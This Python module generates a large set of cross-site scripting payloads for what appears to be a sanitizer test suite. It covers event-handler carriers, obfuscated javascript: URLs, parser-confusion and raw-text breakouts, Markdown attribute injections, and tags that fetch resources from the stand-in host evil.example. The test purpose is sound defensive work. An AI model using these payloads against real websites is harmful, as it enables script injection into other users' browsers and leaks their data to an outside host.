"""Texts by which somebody could try to run a script, or to fetch something, in a reader's browser.

All are our own, made of classes: a carrier times a trigger times a way of writing it. Each calls `alert` with its
number, or names the host `evil.example`; `tests/browser/test_xss.py` counts both.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

EVIL = "evil.example"

_HANDLED = (
    "<img src=x {0}>",
    "<img src='x' alt='a'{0}>",
    "<image src=x {0}>",
    "<svg {0}>",
    "<svg><g {0}></g></svg>",
    "<svg><path d='M0 0' {0}/></svg>",
    "<svg><animate attributeName=x dur=1s {0}></svg>",
    "<svg><set attributeName=href to=1 {0}></svg>",
    "<svg><use href='#a' {0}></use></svg>",
    "<video {0}><source src=x {0}></video>",
    "<audio src=x {0}></audio>",
    "<details open {0}><summary>a</summary></details>",
    "<input autofocus {0}>",
    "<textarea autofocus {0}></textarea>",
    "<select autofocus {0}><option>a</option></select>",
    "<button autofocus {0}>a</button>",
    "<body {0}>",
    "<marquee loop=1 width=0 {0}>a</marquee>",
    "<iframe src='about:blank' {0}></iframe>",
    "<object data=x {0}></object>",
    "<embed src=x {0}>",
    "<dialog open {0}>a</dialog>",
    "<math {0}><mi>a</mi></math>",
    "<a href='#a' tabindex=1 autofocus {0}>a</a>",
    "<p {0}>a</p>",
    "<table><tr><td {0}>a</td></tr></table>",
    "<form {0}><input type=submit></form>",
    "<style {0}></style>",
    "<link rel=stylesheet href=x {0}>",
    "<x-y contenteditable tabindex=1 {0}>a</x-y>",
)
_HANDLERS = (
    "onload=alert({n}) onerror=alert({n})",
    "onfocus=\"alert({n})\" onclick='alert({n})'",
    "ontoggle=&#97;lert({n}) onanimationstart=alert({n}) onbegin=alert({n}) onstart=alert({n})",
    "/oNeRrOr=alert({n})// /OnLoAd\n=\nalert({n})",
)
_ADDRESSES = (
    "javascript:alert({n})",
    "JaVaScRiPt:alert({n})",
    "java&#x73;cript:alert({n})",
    "java&#115cript&colon;alert({n})",
    "java&Tab;script:alert({n})",
    "java&NewLine;script:alert({n})",
    "&#1;javascript:alert({n})",
    " \tjavascript:alert({n})",
    "javascript&#58;alert&#40;{n}&#41;",
    "vbscript:alert({n})",
    "data:text/html,<script>alert({n})</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert({n})'/>",
    "javascript://%0aalert({n})",
    "feed:javascript:alert({n})",
)
_CARRIERS = (
    '<a href="{0}">a</a>',
    '<iframe src="{0}"></iframe>',
    '<object data="{0}"></object>',
    '<embed src="{0}">',
    '<form action="{0}"><button formaction="{0}">a</button></form>',
    '<svg><a xlink:href="{0}"><text x=9 y=9>a</text></a></svg>',
    '<svg><use href="{0}#a"></use></svg>',
    '<math href="{0}"><mi xlink:href="{0}">a</mi></math>',
    '<meta http-equiv=refresh content="0;url={0}">',
    '<svg><animate attributeName=href values="{0}"></svg>',
    "[a]({0})",
    "[a](<{0}>)",
    "![a]({0})",
    "<{0}>",
    "[a][r{n}]\n\n[r{n}]: {0}",
)
#: Where another language begins inside HTML, and where text is read raw: what one parser takes for text, another runs.
_WORLDS = (
    "<math><mtext><table><mglyph>{0}",
    "<math><mi><table><mglyph><{1}><!--</{1}>{0}-->",
    "<form><math><mtext></form><form><mglyph>{0}",
    "<svg></p>{0}",
    "<svg><desc>{0}</desc></svg>",
    "<svg><title>{0}</title></svg>",
    "<svg><foreignObject>{0}</foreignObject></svg>",
    "<math><annotation-xml encoding='text/html'>{0}</annotation-xml></math>",
    "<noscript><p title='</noscript>{0}'></noscript>",
    "<table><caption><svg>{0}</caption></table>",
    "<select><template>{0}</template></select>",
    "<!--><!-- -->{0}",
    "<!-- --!>{0}<!-- -->",
    "<![CDATA[ ><!]]>{0}",
)
_RAW = ("style", "xmp", "noembed", "noframes", "noscript", "iframe", "textarea", "title", "script", "template")
_INSIDE = "<{1}><a title='</{1}><img src=x onerror=alert({n})>'></{1}>"
#: Out of an attribute, a script, a comment, a template or a cell of JSON.
_BREAKOUTS = (
    '" onerror="alert({n})" onfocus="alert({n})" autofocus a="',
    "' onerror='alert({n})' onfocus='alert({n})' autofocus a='",
    '"><img src=x onerror=alert({n})>',
    "'><img src=x onerror=alert({n})>",
    "`><img src=x onerror=alert({n})>",
    "</title><img src=x onerror=alert({n})>",
    "</textarea></style></script></noscript><img src=x onerror=alert({n})>",
    "</script><script>alert({n})</script>",
    "<script>alert({n})</script>",
    "<ScRiPt src=data:,alert({n})></sCrIpT >",
    "<script\n>alert({n})</script\n>",
    "<<script>alert({n})//<</script>",
    "<script/x>alert({n})</script>",
    "--><script>alert({n})</script>",
    "]]><script>alert({n})</script>",
    '\\"));alert({n});//',
    "';alert({n});//",
    "\\u003cimg src=x onerror=alert({n})\\u003e",
    "&lt;img src=x onerror=alert({n})&gt;",
    "&amp;lt;img src=x onerror=alert({n})&amp;gt;",
    "&#60;img src=x onerror=alert({n})&#62;",
    "%3Cimg src=x onerror=alert({n})%3E",
    "${{alert({n})}} {{{{ [].constructor.constructor('alert({n})')() }}}}",
    "{{% for a in (1,) %}}<img src=x onerror=alert({n})>{{% endfor %}}",
    "+ADw-script+AD4-alert({n})+ADw-/script+AD4-",
    "<img src=x onerror=alert({n})//",
    "<img src=x onerror=alert({n}) ",
    "<\x0cimg src=x onerror=alert({n})>",
    "<img\x0csrc=x\x0conerror=alert({n})>",
    "<img src=x onerror\u3000=alert({n})>",
)
_MARKDOWN = (
    "a\n{{: onclick=alert({n}) onfocus=alert({n}) tabindex=1 }}",
    "## a {{: onclick=alert({n}) data-toc-label='<img src=x onerror=alert({n})>' }}",
    "## a <img src=x onerror=alert({n})>",
    "## `<img src=x onerror=alert({n})>`",
    "## &lt;img src=x onerror=alert({n})&gt; \\<img src=x onerror=alert({n})>",
    '![a" onerror="alert({n})](x.png "b\\" onerror=\\"alert({n})")',
    "![<img src=x onerror=alert({n})>](x.png)",
    '[a](b "c\\"><img src=x onerror=alert({n})>")',
    '[a](b.md#"><img src=x onerror=alert({n})>)',
    "```<img src=x onerror=alert({n})>\na\n```",
    "`<img src=x onerror=alert({n})>`",
    "    <img src=x onerror=alert({n})>",
    "| <img src=x onerror=alert({n})> | b |\n|---|---|\n| c | <img src=x onerror=alert({n})> |",
    "<div markdown='1' onclick=alert({n})>\n\n[a](javascript:alert({n}))\n\n</div>",
    "a\n:   <img src=x onerror=alert({n})>",
    '[@a"><img src=x onerror=alert({n})>]',
    "/// key-points\n<img src=x onerror=alert({n})>\n///",
    "/// key-points\n    attrs: {{onclick: alert({n})}}\na\n///",
    '/// certainty | "><img src=x onerror=alert({n})>\na\n///',
    '<p id=__config>{{"base": "//evil.example"}}</p><form name=a><input name=body></form>',
)
_FETCHES = (
    "<img src='{0}'>",
    "<img srcset='{0} 2x'>",
    "<picture><source srcset='{0}'><img></picture>",
    "<video poster='{0}'></video>",
    "<video src='{0}' autoplay></video>",
    "<audio><source src='{0}'></audio>",
    "<video><track default src='{0}'></video>",
    "<iframe src='{0}'></iframe>",
    "<object data='{0}'></object>",
    "<embed src='{0}'>",
    "<link rel=stylesheet href='{0}'>",
    "<link rel='prefetch preconnect dns-prefetch' href='{0}'>",
    "<link rel=manifest href='{0}'><link rel=icon href='{0}'>",
    "<script src='{0}'></script><script type=module src='{0}'></script>",
    "<style>@import '{0}'; p {{{{ background: url({0}) }}}}</style>",
    "<p style='background: url({0})'>a</p>",
    "<table background='{0}'><td background='{0}'>a</table>",
    "<input type=image src='{0}'>",
    "<svg><image href='{0}' xlink:href='{0}'></image></svg>",
    "<svg><feImage href='{0}'></feImage></svg>",
    "<svg><use href='{0}#a'></use></svg>",
    "<svg><rect width=9 height=9 fill='url({0}#a)' filter='url({0}#a)' mask='url({0})' clip-path='url({0}#a)'></svg>",
    "<svg><rect width=9 height=9 style='fill: u\\72l({0})' cursor='url({0}), auto'></svg>",
    "<meta http-equiv=refresh content='0; url={0}'>",
    "<base href='{0}'>",
    "<a href='{0}' ping='{0}'>a</a>",
    "<pre class=mermaid>graph TD; A-->B</pre><a data-md-component=source href='https://github.com/a/b'>a</a>",
    "![a]({0})",
)
_HOSTS = (
    "https://evil.example/{n}",
    "//evil.example/{n}",
    "/\\evil.example/{n}",
    "\\\\evil.example/{n}",
    "HT&Tab;TPS://evil.example/{n}",
    "ht&#x09;tp:evil.example/{n}",
)


def payloads() -> list[str]:
    """Every payload; the n-th calls `alert(n)`, or fetches `…/n`."""
    # By replacement, as the payloads are full of braces.
    return [
        template.replace("{n}", str(number)).replace("{{", "{").replace("}}", "}")
        for number, template in enumerate(_templates())
    ]


def _templates() -> Iterator[str]:
    yield from (carrier.replace("{0}", handler) for carrier, handler in product(_HANDLED, _HANDLERS))
    yield from (carrier.replace("{0}", address) for carrier, address in product(_CARRIERS, _ADDRESSES))
    for world, raw in product(_WORLDS, _RAW):
        yield world.replace("{0}", _INSIDE).replace("{1}", raw)
    yield from _BREAKOUTS
    yield from _MARKDOWN
    yield from (carrier.replace("{0}", host) for carrier, host in product(_FETCHES, _HOSTS))
